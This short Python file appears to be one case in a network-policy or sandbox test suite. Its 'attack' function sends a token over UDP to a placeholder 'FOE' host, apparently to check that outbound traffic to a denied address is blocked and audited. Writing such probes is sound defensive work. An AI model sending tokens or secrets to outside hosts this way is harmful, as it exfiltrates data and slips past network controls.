"""UDP: sendto
Sends a datagram without a connection.
policy: denied-address
audit: explicitlyDeniedIP
proof: arrival
"""


def attack(at):
    at.udp().sendto(at.token, (at.FOE, at.PORT))
    return True
